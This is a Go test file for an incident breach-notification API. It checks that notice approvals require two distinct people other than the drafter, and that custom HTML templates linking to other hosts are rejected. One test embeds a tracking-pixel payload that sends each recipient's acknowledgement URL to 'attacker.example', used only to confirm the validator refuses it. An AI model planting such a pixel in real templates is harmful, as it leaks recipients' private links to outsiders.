package api_test

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/breachflow/breachflow/internal/notice"
	"github.com/breachflow/breachflow/workflows"
)

// TestApprovalsCountPeopleThroughTheAPI: the drafter of a notice cannot approve it, an
// admin key is no approver, and one person with two keys approves once; two other people
// are needed, and only then is anything sent.
func TestApprovalsCountPeopleThroughTheAPI(t *testing.T) {
	t.Parallel()
	e := newAPIEnv(t, envOptions{Tenants: 5, Contacts: 1, Worker: true})
	id := e.declare(t, declaration("Separation of duties", nil))
	// The first approver drafts, so only the second approver and one more person may approve.
	var drafted struct{ Status workflows.Status }
	e.must(t, http.StatusOK, "POST", "/v1/incidents/"+id+"/draft", keyApprover, draftJSON(t, "Separation of duties")).JSON(t, &drafted)
	hash := drafted.Status.ContentHash
	e.must(t, http.StatusOK, "POST", "/v1/incidents/"+id+"/assessment", keyResponder, map[string]any{"reportable": true, "rationale": "r"})
	e.must(t, http.StatusOK, "POST", "/v1/incidents/"+id+"/scope", keyResponder, map[string]any{"services": []string{"compute", "backup", "identity"}})
	e.waitStage(t, id, workflows.StageApproval)
	approve := func(key string, code int, says string) {
		t.Helper()
		r := e.must(t, code, "POST", "/v1/incidents/"+id+"/approval", key, map[string]string{"content_hash": hash})
		if says != "" {
			require.Contains(t, r.Err(t).Message, says)
		}
	}
	approve(keyApprover, http.StatusUnprocessableEntity, "drafted this notice")
	approve(keyAdmin, http.StatusForbidden, "")
	approve(keyApprover2, http.StatusOK, "")
	// The same person (the key's name, whatever its case) with another key.
	again, _, err := e.st.CreateAPIKey(t.Context(), "APPROVER2 key", "responder,approver", "test")
	require.NoError(t, err)
	e.keys["approver2-again"] = again
	approve("approver2-again", http.StatusUnprocessableEntity, "already approved")
	require.Zero(t, e.count(t, `SELECT count(*) FROM notices WHERE incident_id = $1`, id), "one person's approval sends nothing")
	require.Equal(t, 1, e.count(t, `SELECT count(*) FROM approvals WHERE incident_id = $1`, id))

	// An admin given the approver role too is a second person.
	both, _, err := e.st.CreateAPIKey(t.Context(), "bea", "admin,approver", "test")
	require.NoError(t, err)
	e.keys["bea"] = both
	approve("bea", http.StatusOK, "")
	e.waitStage(t, id, workflows.StageTracking)
	require.Equal(t, 2, e.count(t, `SELECT count(DISTINCT approver) FROM approvals WHERE incident_id = $1`, id))
}

// TestCustomTemplatesLinkOnlyToAllowedHosts: a custom HTML template that hands each
// recipient's acknowledgement link to another host is refused when proposed, and
// nothing is stored; a link to the public URL's host is accepted.
func TestCustomTemplatesLinkOnlyToAllowedHosts(t *testing.T) {
	t.Parallel()
	e := newAPIEnv(t, envOptions{Worker: true})
	id := e.declare(t, declaration("Tracking pixel", nil))
	withHTML := func(html string) json.RawMessage {
		var d notice.Draft
		require.NoError(t, json.Unmarshal(draftJSON(t, "Tracking pixel"), &d))
		base := notice.DefaultTemplate("en")
		base.HTML = strings.Replace(base.HTML, "</body>", html+"</body>", 1)
		d.Templates = map[string]notice.Template{"en": base}
		raw, err := json.Marshal(d)
		require.NoError(t, err)
		return raw
	}
	before := e.count(t, `SELECT count(*) FROM notice_drafts`)
	r := e.must(t, http.StatusBadRequest, "POST", "/v1/incidents/"+id+"/draft", keyResponder,
		withHTML(`<img src="https://attacker.example/p.gif?l={{.AckURL}}">`))
	require.Equal(t, "notice", r.Err(t).Field)
	require.Contains(t, r.Err(t).Message, `"attacker.example" is not allowed`)
	require.Equal(t, before, e.count(t, `SELECT count(*) FROM notice_drafts`), "nothing stored")
	decl := declaration("Tracking pixel at declaration", withHTML(`<img src="https://attacker.example/p.gif">`))
	e.must(t, http.StatusBadRequest, "POST", "/v1/incidents", keyResponder, decl)
	e.must(t, http.StatusOK, "POST", "/v1/incidents/"+id+"/draft", keyResponder, withHTML(`<a href="`+publicURL+`/status">status</a>`))
}

// TestDeclarerMayNotApproveTheDeclaredNotice: a notice that comes with the declaration was
// drafted by the declarer, who may not approve it either.
func TestDeclarerMayNotApproveTheDeclaredNotice(t *testing.T) {
	t.Parallel()
	e := newAPIEnv(t, envOptions{Tenants: 5, Contacts: 1, Worker: true})
	var out struct{ Incident struct{ ID string } }
	e.must(t, http.StatusCreated, "POST", "/v1/incidents", keyApprover, declaration("Declared with its notice", draftJSON(t, "Declared with its notice"))).JSON(t, &out)
	id := out.Incident.ID
	e.must(t, http.StatusOK, "POST", "/v1/incidents/"+id+"/assessment", keyResponder, map[string]any{"reportable": true, "rationale": "r"})
	e.must(t, http.StatusOK, "POST", "/v1/incidents/"+id+"/scope", keyResponder, map[string]any{"services": []string{"compute", "backup", "identity"}})
	v := e.waitStage(t, id, workflows.StageApproval)
	require.NotEmpty(t, v.Status.ContentHash)
	r := e.must(t, http.StatusUnprocessableEntity, "POST", "/v1/incidents/"+id+"/approval", keyApprover, map[string]string{"content_hash": v.Status.ContentHash})
	require.Contains(t, r.Err(t).Message, "drafted this notice")
	require.Zero(t, e.count(t, `SELECT count(*) FROM approvals WHERE incident_id = $1`, id))
}
